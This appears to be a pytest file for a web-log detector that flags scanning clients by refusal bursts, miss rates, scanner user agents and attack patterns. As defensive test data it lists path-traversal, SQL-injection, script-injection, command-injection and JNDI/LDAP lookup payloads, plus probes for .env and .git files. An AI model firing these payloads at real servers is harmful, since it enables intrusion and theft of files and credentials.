"""D13: refusals in minutes, many misses, attack patterns, and scanners that say what they are."""

from __future__ import annotations

from typing import Any

import pytest

from tests.triage.detectors.web_logs import STRANGER, VISITOR, Ask, visitors, web_log
from triage.detectors.protocol import Context, Scope
from triage.events.schema import empty

CASE = Scope(ips=(STRANGER,))
QUIET = tuple(visitors(3))


def failing(status: int, times: int, *, every: int = 30, path: str = "/page/{}", **how: Any) -> list[Ask]:
    return [Ask(path.format(number), status, at=every * number, **how) for number in range(times)]


@pytest.mark.parametrize(
    ("requests", "answer"),
    [
        (failing(403, 11), "yes"),
        (failing(403, 10), "no"),
        (failing(500, 11, every=60), "no"),  # the first leaves the window as the last comes: half open
        (failing(500, 11, every=59), "yes"),
        ([*failing(400, 6), *failing(401, 6)], "yes"),
        (failing(402, 20), "no"),
        (failing(404, 15) + failing(200, 35), "yes"),
        (failing(404, 14) + failing(200, 36), "partly"),  # 28 %, but 14 misses close together
        (failing(404, 15) + failing(200, 34), "partly"),  # 49 requests
        (failing(404, 15, every=600) + failing(200, 34), "no"),
        (failing(404, 60, path="/gone.jar"), "no"),  # a broken link
        (failing(404, 3, path="/gone/{}") + failing(404, 60, path="/gone.jar"), "no"),
        (failing(404, 4, path="/gone/{}") + failing(404, 60, path="/gone.jar"), "yes"),
        ([Ask("/a?f=../../etc/passwd", 404)], "partly"),
        (failing(404, 3, path="/a{}?f=../../etc/passwd"), "yes"),
        ([Ask("/", agent="sqlmap/1.8#stable")], "yes"),
        (failing(200, 300), "no"),
    ],
)
def test_at_and_under_the_thresholds(detect: Any, requests: list[Ask], answer: str) -> None:
    assert detect("D13", web_log(*QUIET, *requests), scope=CASE)["case"].answer == answer


@pytest.mark.parametrize(
    ("path", "family"),
    [
        ("/../../etc/passwd", "path traversal"),
        ("/get?f=..%2f..%2fwin.ini", "path traversal"),
        ("/get?f=%252e%252e%252fconf", "path traversal"),
        ("/item?id=1%27%20OR%201=1--", "SQL injection"),
        ("/item?id=-1+UNION+ALL+SELECT+1,2", "SQL injection"),
        ("/item?id=1/**/union/**/select/**/2", "SQL injection"),
        ("/item?id=sleep(5)", "SQL injection"),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script injection"),
        ("/s?q=x%22onerror=alert(1)", "script injection"),
        ("/ping?h=a;cat%20/etc/hosts", "command injection"),
        ("/ping?h=a|id", "command injection"),
        ("/cgi/x?$(whoami)", "command injection"),
        ("/?x=${jndi:ldap://203.0.113.9/a}", "template injection"),
        ("/?x=%24%7Bjndi:ldap%3A//203.0.113.9/a%7D", "template injection"),
        ("/?page=php://filter/convert", "file inclusion"),
        ("/.git/config", "unpublished file"),
        ("/app/.env", "unpublished file"),
        ("/search?q=select+a+gift+from+our+shop", None),
        ("/list;session=4?id=3&ls=5", None),
        ("/a/..b/c.env.html", None),
        ("/docs/union-select.html", None),
        ("/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22", None),
        ("/wiki/O%27Brien?title=O%27Neill+and+sons", None),
        ("/go?to=https://shop.example/a", None),
        ("/repository.git/info/refs", None),
    ],
)
def test_attack_patterns_and_what_only_looks_like_one(detect: Any, path: str, family: str | None) -> None:
    found = detect("D13", web_log(Ask(path, 404)), scope=CASE)["case"]
    assert found.figures["families"] == ({} if family is None else {family: 1})


def test_patterns_that_were_answered_are_named(detect: Any) -> None:
    tried = [Ask(f"/item?id={n}%27%20or%201=1", status, at=n) for n, status in enumerate((403, 404, 200))]
    found = detect("D13", web_log(*QUIET, Ask("/", at=9), *tried), scope=CASE)["case"]
    assert (found.answer, found.confidence) == ("yes", "high")
    assert found.sentence == "203.0.113.7: 3 requests with SQL injection, answered: /item."
    assert (found.figures["patterns"], found.figures["patterns_answered"]) == (3, 1)
    assert [row.event["http.response.status_code"] for row in found.evidence] == [403, 404, 200]
    assert not {"client", "family"} & set(found.evidence[0].event)


def test_marks_that_meet_are_all_told(detect: Any) -> None:
    requests = failing(403, 12, agent="Mozilla/5.0 (Nikto/2.5)") + failing(404, 40, path="/x/{}")
    found = detect("D13", web_log(*requests, *failing(200, 8)), scope=CASE)["case"]
    assert (found.answer, found.confidence) == ("yes", "high")
    assert found.figures["marks"] == ["refusals", "misses", "scanner"]
    assert found.sentence == (
        "203.0.113.7: calls itself nikto; 67% of 60 requests missed, over 40 pages; "
        "12 refusals and errors (403 and 404) within 10 min."
    )


def test_a_broken_link_is_told_as_one(detect: Any) -> None:
    found = detect("D13", web_log(*failing(404, 60, path="/gone.jar")), scope=CASE)["case"]
    assert found.sentence == "203.0.113.7 asked 60 times for 1 missing page: a broken link, no scan."


def test_elsewhere_keeps_silent_about_stray_patterns(detect: Any) -> None:
    stray = web_log(Ask("/"), Ask("/.env", 404, client=VISITOR))
    assert list(detect("D13", stray, scope=CASE)) == ["case"]
    scan = web_log(Ask("/"), *failing(403, 30, client=VISITOR), *failing(404, 12, client="198.51.100.4"))
    found = detect("D13", scan, scope=CASE)
    assert (found["case"].answer, found["elsewhere"].answer) == ("no", "yes")
    assert found["elsewhere"].entities == {"ip": [VISITOR]}


def test_own_scanners_and_verified_crawlers_are_apart(detect: Any) -> None:
    log = web_log(*failing(403, 30))
    ours = Context(ranges=(("203.0.113.0/24", "head office"),))
    found = detect("D13", log, context=ours)["case"]
    assert (found.answer, found.entities) == ("no", {})
    assert "not counted: 203.0.113.7" in found.sentence
    assert detect("D13", log, scope=CASE, context=ours)["case"].answer == "yes"


def test_rewritten_minutes_allow_the_hour_only(detect: Any) -> None:
    """Eleven refusals in one hour prove nothing about ten minutes: the answer stays open and says why."""
    crowd = [Ask(f"/page/{n}", 403, at=n) for n in range(11)]
    hours = [Ask("/", at=3900 * hour) for hour in range(6)]
    log = web_log(*crowd, *hours)
    assert detect("D13", log, scope=CASE)["case"].answer == "yes"
    found = detect("D13", log.with_columns(log["@timestamp"].dt.replace(minute=5)), scope=CASE)["case"]
    assert (found.answer, found.missing) == ("partly", ("trustworthy minutes in the time stamps",))
    assert "no rate below the hour is stated" in found.sentence
    assert "refusals" not in found.figures


def test_without_a_web_log_nothing_can_be_told(detect: Any) -> None:
    found = detect("D13", empty(), scope=CASE)["case"]
    assert (found.answer, found.missing) == ("cannot_tell", ("web events",))


def test_what_is_no_http_at_all_counts_as_refused(detect: Any) -> None:
    """A TLS hello on the plain port has no path; its 400s are refusals all the same."""
    garbage = [Ask("/", 400, at=n) for n in range(11)]
    log = web_log(*garbage)
    bare = log.with_columns(log["url.path"].replace("/", None))
    assert detect("D13", bare, scope=CASE)["case"].answer == "yes"
